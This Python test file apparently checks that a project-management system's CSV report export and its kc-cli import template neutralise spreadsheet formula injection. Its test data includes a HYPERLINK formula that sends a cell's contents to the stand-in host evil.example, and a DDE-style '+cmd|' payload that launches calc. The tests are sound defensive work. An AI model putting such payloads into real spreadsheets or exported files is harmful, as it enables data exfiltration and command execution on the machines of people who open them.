#!/usr/bin/env python3
"""CSV formula injection (issue 13, point 4): a project titled
=HYPERLINK("http://…"&A1,"Chi tiết") comes out of report.export as text a
spreadsheet shows, never as a formula; numbers stay numbers. The same for
the CSV kc-cli writes (import-template)."""

import base64
import csv
import io
import os
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "integration"))
import kctest  # noqa: E402
from kctest import check, check_equal  # noqa: E402

tap = kctest.Tap()
S = kctest.Suite()
srv = S.srv
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")'
YEAR = 2031


def lan():
    if "lan" not in S:
        with srv().admin(source=kctest.next_peer()) as a:
            u = kctest.create_user(a, "province_officer")
        S["lan"] = srv().login(u["username"], u["password"], source=kctest.next_peer())
    return S["lan"]


def project(plan_id, title, **extra):
    p = {"plan_id": plan_id, "title": title, "content_category": "ND45.4.3",
         "budget_lines": [{"source": "central", "amount": 300000000},
                          {"source": "counterpart", "amount": 700000000}],
         "indicators": [{"code": "I01", "target": 30}], "cap_code": "C02",
         "no_double_funding": True,
         "beneficiaries": [{"name": "Cơ sở thử", "kind": "household_business"}]}
    p.update(extra)
    return p


@tap.test("report.export registration_list csv: titles and implementers starting with = + - @ tab come out prefixed with ', the amounts stay plain numbers")
def _():
    c = lan()
    plan = c.result("plan.create", {"org_id": srv().org_id("25.TTKC"), "year": YEAR,
                                    "scope": "national"})
    titles = [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
    for t in titles:
        c.result("project.create", project(plan["id"], t.replace("\t", " ") if t.startswith("\t")
                                           else t, implementer="=1+2"))
    out = c.result("report.export", {"report": "registration_list", "params": {"year": YEAR},
                                     "format": "csv"})
    text = base64.b64decode(out["content_base64"]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    kctest.Tap.diag("rows: %d; first data row: %s" % (len(rows) - 1, rows[1] if len(rows) > 1 else None))
    check(len(rows) - 1 >= len(titles), "the projects are in the export", rows)
    for cell in cells:
        check(not cell or cell[0] not in "=+-@\t\r", "a cell a spreadsheet would run: %r" % cell)
    check("'" + EVIL in cells, "the formula title kept as text with a leading '", cells)
    check("'=1+2" in cells, "the implementer neutralised too", cells)
    check(any(cell == "300000000" or cell == "1000000000" for cell in cells),
          "amounts stay plain numbers", rows[1])


@tap.test("kc-cli import-template writes no cell a spreadsheet would run")
def _():
    p = subprocess.run([kctest.KC_CLI, "import-template", "-"], capture_output=True, timeout=30)
    check_equal(p.returncode, 0, "kc-cli import-template: %s" % p.stderr.decode())
    rows = list(csv.reader(io.StringIO(p.stdout.decode("utf-8-sig"))))
    for cell in (cell for row in rows for cell in row):
        check(not cell or cell[0] not in "=+-@\t\r", "a formula cell: %r" % cell)


tap.run()
